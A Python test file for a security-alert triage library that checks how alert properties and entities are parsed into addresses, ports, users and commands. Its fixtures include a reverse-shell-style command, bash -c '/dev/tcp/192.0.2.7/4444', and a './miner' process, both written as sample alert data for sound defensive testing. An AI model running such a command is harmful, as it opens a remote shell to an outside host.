"""What alerts name: every published form of their properties, and no harm from any other."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from iotriage.queries.alert_values import MOST, values_of
from iotriage.queries.entities import graph_of


def named(properties: Any, entities: Any = "") -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    text = properties if isinstance(properties, str) else json.dumps(properties)
    for value in values_of({"ExtendedProperties": text}, graph_of(entities)):
        found.setdefault(value.kind, []).append(value.text)
    return found


@pytest.mark.parametrize(
    ("properties", "expected"),
    [
        (
            {"Full Source Address": '["10.165.12.18:"]', "User Names": '[""]', "DeviceId": "d"},
            {"address": ["10.165.12.18"]},
        ),
        (
            {
                "Remote Address": "?",
                "Remote Port": "",
                "Local Port": "",
                "Login Shell": "/bin/su",
                "Login Process Id": "28207",
                "User Name": "attacker",
            },
            {"executable": ["/bin/su"], "user": ["attacker"]},
        ),
        (
            {"Remote Addresses": '["192.0.2.7","2001:db8::1"]', "Remote Ports": '["22","x"]'},
            {"address": ["192.0.2.7", "2001:db8::1"], "port": ["22"]},
        ),
        ({"Source Address": "[2001:db8::1]:443"}, {"address": ["2001:db8::1"]}),
        ({"Source Address": "192.0.2.7:51000"}, {"address": ["192.0.2.7"]}),
        ({"Remote Address": "127.0.0.1", "Local Address": "0.0.0.0", "IP": "::"}, {}),
        (
            {"Command Line": "bash -c '/dev/tcp/192.0.2.7/4444' mei"},
            {
                "command": ["bash -c '/dev/tcp/192.0.2.7/4444' mei"],
                "executable": ["bash"],
                "address": ["192.0.2.7"],
                "port": ["4444"],
                "word": ["-c", "/dev/tcp/192.0.2.7/4444", "mei"],
            },
        ),
        ({"SourceDeviceAddress": "192.0.2.9", "Protocol": "TCP"}, {"address": ["192.0.2.9"]}),
        ({"User Name": ["mei", "tomas"]}, {"user": ["mei", "tomas"]}),
    ],
)
def test_properties_give_what_they_name(properties: Any, expected: dict[str, list[str]]) -> None:
    assert named(properties) == expected


def test_entities_give_what_they_name_once() -> None:
    entities = [
        {"Type": "ip", "Address": "192.0.2.7"},
        {"Type": "account", "Name": "mei", "NTDomain": "CORP"},
        {
            "Type": "process",
            "CommandLine": "./miner",
            "ImageFile": {"Directory": "/tmp", "Name": "miner"},
        },
        {"Type": "host", "HostName": "cam"},
    ]
    assert named({"Remote Address": "192.0.2.7"}, entities) == {
        "address": ["192.0.2.7"],
        "user": ["mei"],
        "command": ["./miner"],
        "executable": ["/tmp/miner", "miner", "./miner"],
    }


@given(st.one_of(st.text(), st.dictionaries(st.text(), st.text(), max_size=5)), st.text())
def test_whatever_stands_in_an_alert(properties: Any, entities: str) -> None:
    found = named(properties, entities)
    assert all(text for texts in found.values() for text in texts)


def test_no_alert_names_more_than_can_be_looked_at() -> None:
    many = {"User Names": json.dumps([f"u{n}" for n in range(10_000)])}
    line = {"Command Line": " ".join(f"w{n}" for n in range(10_000))}
    for properties in (many, line, "[" * 100_000, "{" * 100_000):
        assert sum(map(len, named(properties).values())) <= MOST
